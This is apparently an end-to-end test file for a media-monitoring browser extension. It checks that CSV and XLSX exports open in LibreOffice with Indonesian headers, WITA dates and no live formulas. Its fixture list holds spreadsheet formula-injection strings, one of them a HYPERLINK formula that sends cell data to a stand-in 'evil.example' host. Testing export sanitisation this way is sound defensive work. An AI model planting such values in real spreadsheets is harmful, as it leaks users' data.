import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AuditSection } from './pages/audit';
import { OptionsPage } from './pages/options';
import { ReportPage } from './pages/report';
import { PANEL_SIZE, SidePanelPage } from './pages/sidepanel';
import { launchSiar, type SiarBrowser } from './support/launch';
import { fixtureFeedPreferences } from './support/listening';
import { readInCalc, type CalcCell } from './support/libreoffice';
import { label } from './support/locales';
import { HOUR, mention, seed, watch } from './support/mentions';
import { storageSet } from './support/worker';

// Issue 14.10: exports that open right in Indonesian Excel. The outside reader is LibreOffice Calc
// (Debian's libreoffice-calc-nogui): each real download is opened the way a spreadsheet user would, and
// the header row, the columns, the date cells in the officer's zone (WITA here) and the text must come
// back as written, with no formula anywhere.
const id = label('id');
const HOSTILE = ['pemerintah;=1+1;x', '=HYPERLINK("https://evil.example/?"&A1,"klik")', '@SUM(1;2)', '+62 811, "kutipan"'];
// 2026-03-10 09:15 WITA (UTC+8) = 01:15 UTC.
const DAY = Date.parse('2026-03-10T00:00:00+08:00');
const WITA = (epoch: number) => new Date(epoch + 8 * HOUR).toISOString().slice(0, 19);

let siar: SiarBrowser;
beforeAll(async () => {
  siar = await launchSiar();
  await storageSet(siar.worker, {
    preferences: fixtureFeedPreferences('Asia/Makassar'),
    profile: { name: 'Sari Wulandari', unit: 'Diskominfo Kota Makassar' },
  });
});
afterAll(async () => {
  await siar.close();
});

const texts = (rows: CalcCell[][]) => rows.map((row) => row.map((cell) => cell.text));
const formulas = (rows: CalcCell[][]) => rows.flat().filter((cell) => cell.formula);

describe('exports for Indonesian Excel', () => {
  it('mentions, clipping and audit open in LibreOffice as CSV (;) and XLSX with UI-language headers and WITA dates', async () => {
    const mentions = HOSTILE.map((title, i) =>
      mention(i + 1, {
        title,
        summary: `Ringkasan ${title}`,
        outlet: `Media ${i + 1}`,
        publishedAt: DAY + (9 + i) * HOUR + 15 * 60_000,
        storyKey: `s${i}`,
        tone: (['positive', 'neutral', 'negative', 'neutral'] as const)[i],
      }),
    );
    const panel = await SidePanelPage.atPanelSize(siar, PANEL_SIZE);
    await seed(panel.page, { watches: [watch(1, 'Banjir', '#1f77b4')], mentions });
    await panel.page.reload();
    await panel.ready();
    await panel.state('all');
    await expect.poll(() => panel.visibleIds()).toEqual([4, 3, 2, 1]);
    expect(await panel.inView('export-xlsx')).toBe(true);
    const panelCsv = await panel.download('export-csv');
    const panelXlsx = await panel.download('export-xlsx');
    expect(panelCsv.name).toMatch(/^siar-sebutan-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(panelXlsx.name).toMatch(/^siar-sebutan-\d{4}-\d{2}-\d{2}\.xlsx$/);
    await panel.page.close();

    const report = await ReportPage.open(siar, '?from=2026-03-10T00:00&to=2026-03-11T00:00');
    expect(await report.rows()).toHaveLength(4);
    const reportCsv = await report.download('report-export-csv');
    const reportXlsx = await report.download('report-export-xlsx');
    expect(reportXlsx.name).toBe('kliping-2026-03-10T0000_2026-03-11T0000.xlsx');
    await report.page.close();

    await siar.worker.evaluate(
      ([at, hostile]) =>
        new Promise<void>((resolve, reject) => {
          const open = indexedDB.open('siar');
          open.onsuccess = () => {
            const tx = open.result.transaction('audit', 'readwrite');
            tx.objectStore('audit').add({
              at,
              actor: 'Sari Wulandari — Diskominfo Kota Makassar',
              event: 'sent',
              network: 'telegram',
              text: hostile,
              result: 'ok',
              url: 'https://t.me/humas/7',
            });
            tx.objectStore('audit').add({
              at: at + 60_000,
              actor: 'Sari Wulandari — Diskominfo Kota Makassar',
              event: 'attempt-failed',
              network: 'x',
              text: hostile,
              result: 'auth: HTTP 401 Unauthorized',
              resultKey: 'errorAuth',
            });
            tx.oncomplete = () => {
              open.result.close();
              resolve();
            };
            tx.onerror = () => reject(tx.error);
          };
        }),
      [DAY + 9 * HOUR, HOSTILE[1]!] as const,
    );
    const options = await siar.openPage('options.html');
    const audit = AuditSection.on(options);
    await audit.ready();
    // The raw code is a sentence in the UI language on screen too (issue 14.13).
    await expect
      .poll(() => audit.byTestId('audit-result').allTextContents())
      .toContain(`${id('errorAuth')} ${id('auditResultDetail', 'HTTP 401 Unauthorized')}`);
    const auditCsv = await audit.download('audit-export');
    const auditXlsx = await audit.exportXlsx();
    await options.close();

    const sheets = readInCalc(
      {
        'mentions.csv': panelCsv.bytes,
        'mentions.xlsx': panelXlsx.bytes,
        'clipping.csv': reportCsv.bytes,
        'clipping.xlsx': reportXlsx.bytes,
        'audit.csv': auditCsv.bytes,
        'audit.xlsx': auditXlsx.bytes,
      },
      ';',
    );
    for (const [name, rows] of Object.entries(sheets)) expect(formulas(rows), name).toEqual([]);

    // Mentions: the header row in Indonesian, one row per mention in the panel's order, WITA times.
    const mentionHeader = ['ID', id('exportColPublished', 'WITA'), 'Media', 'Penulis', 'Judul', 'Tautan', 'Sumber', 'Pantauan', 'Kata kunci', 'Nada'];
    for (const name of ['mentions.csv', 'mentions.xlsx']) {
      const rows = sheets[name]!;
      expect(texts(rows)[0]!.slice(0, 10), name).toEqual(mentionHeader);
      expect(
        rows.slice(1).map((row) => row[0]!.text),
        name,
      ).toEqual(['4', '3', '2', '1']);
      expect(
        rows.slice(1).map((row) => row[7]!.text),
        name,
      ).toEqual(['Banjir', 'Banjir', 'Banjir', 'Banjir']);
      expect(
        rows.slice(1).map((row) => row[9]!.text),
        name,
      ).toEqual(['Netral', 'Negatif', 'Netral', 'Positif']);
    }
    // XLSX: real date cells holding the WITA wall-clock time, the text exactly as written.
    const xlsxMentions = sheets['mentions.xlsx']!.slice(1);
    expect(xlsxMentions.map((row) => [row[1]!.type, row[1]!.value])).toEqual(mentions.toReversed().map((m) => ['date', WITA(m.publishedAt)]));
    expect(xlsxMentions.map((row) => row[4]!.text)).toEqual(HOSTILE.toReversed());
    expect(xlsxMentions.map((row) => row[0]!.type)).toEqual(['float', 'float', 'float', 'float']);
    // CSV: the same times, which Calc reads as dates; the hostile text is neutralised with a leading quote,
    // which Calc takes as its "this is text" mark, so the cell shows exactly what was written.
    const csvMentions = sheets['mentions.csv']!.slice(1);
    expect(csvMentions.map((row) => row[1]!.value)).toEqual(mentions.toReversed().map((m) => WITA(m.publishedAt)));
    expect(csvMentions.map((row) => row[4]!.text)).toEqual(HOSTILE.toReversed());

    // Clipping: grouped by watch, oldest first, excerpt and tone in Indonesian.
    for (const name of ['clipping.csv', 'clipping.xlsx']) {
      const rows = texts(sheets[name]!);
      expect(rows[0], name).toEqual(['Pantauan / cerita', 'Waktu (WITA)', 'Media', 'Judul', 'Cuplikan', 'Nada', 'Tautan']);
      expect(
        rows.slice(1).map((row) => [row[0], row[2], row[5]]),
        name,
      ).toEqual([
        ['Banjir', 'Media 1', 'Positif'],
        ['Banjir', 'Media 2', 'Netral'],
        ['Banjir', 'Media 3', 'Negatif'],
        ['Banjir', 'Media 4', 'Netral'],
      ]);
    }
    expect(sheets['clipping.xlsx']!.slice(1).map((row) => row[3]!.text)).toEqual(HOSTILE);
    expect(sheets['clipping.xlsx']!.slice(1).map((row) => row[1]!.value)).toEqual(mentions.map((m) => WITA(m.publishedAt)));

    // Audit: sentences, not codes; WITA times.
    for (const name of ['audit.csv', 'audit.xlsx']) {
      const rows = texts(sheets[name]!);
      expect(rows[0]!.slice(0, 5), name).toEqual(['Waktu (WITA)', 'Pelaku', 'Jaringan', 'Peristiwa', 'Hasil']);
      expect(
        rows.slice(1).map((row) => [row[2], row[3], row[4]]),
        name,
      ).toEqual([
        [id('networkTelegram'), id('auditEventSent'), 'Berhasil'],
        [id('networkX'), id('auditEventAttemptFailed'), `${id('errorAuth')} ${id('auditResultDetail', 'HTTP 401 Unauthorized')}`],
      ]);
    }
    expect(sheets['audit.xlsx']![1]![0]!.value).toBe(WITA(DAY + 9 * HOUR));
    expect(sheets['audit.xlsx']![1]![7]!.text).toBe(HOSTILE[1]);
    expect(siar.errors).toEqual([]);
  }, 600_000);

  it("writes `,` when the officer picks it in the options, and a large XLSX (over fflate's 160 kB worker threshold) still downloads", async () => {
    const options = await OptionsPage.openIn(siar, 'options.html#preferences');
    await options.byTestId('pref-csv-separator').selectOption(',');
    await options.byTestId('pref-save').click();
    await options.byTestId('pref-status').waitFor();
    await options.page.close();

    const long = 'Warga melaporkan genangan di beberapa ruas jalan utama kota setelah hujan deras semalam; petugas dinas pekerjaan umum dikerahkan. ';
    const many = Array.from({ length: 1500 }, (_, i) =>
      mention(100 + i, { summary: long.repeat(3), title: `Berita banjir ${i}`, publishedAt: DAY + i * 60_000 }),
    );
    const panel = await SidePanelPage.atPanelSize(siar, PANEL_SIZE);
    await seed(panel.page, { watches: [watch(1, 'Banjir', '#1f77b4')], mentions: many });
    await panel.page.reload();
    await panel.ready();
    await panel.state('all');
    await expect.poll(() => panel.byTestId('mention-count').textContent()).toBe('1500');
    const csv = await panel.download('export-csv');
    const xlsx = await panel.download('export-xlsx');
    await panel.page.close();
    expect(csv.bytes.toString('utf8').split('\r\n')[0]).toBe(
      `\uFEFF"ID","${id('exportColPublished', 'WITA')}","Media","Penulis","Judul","Tautan","Sumber","Pantauan","Kata kunci","Nada","Nada dikoreksi petugas","Status baca","Berbintang","Tanggapan","Catatan","Ringkasan"`,
    );

    const sheets = readInCalc({ 'wide.csv': csv.bytes }, ',');
    const big = readInCalc({ 'big.xlsx': xlsx.bytes });
    for (const rows of [sheets['wide.csv']!, big['big.xlsx']!]) {
      expect(rows).toHaveLength(1501);
      expect(rows.every((row) => row.length === 16)).toBe(true);
      expect(rows[1]![15]!.text.trim()).toBe(long.repeat(3).trim());
    }
    expect(siar.errors).toEqual([]);
  }, 600_000);
});
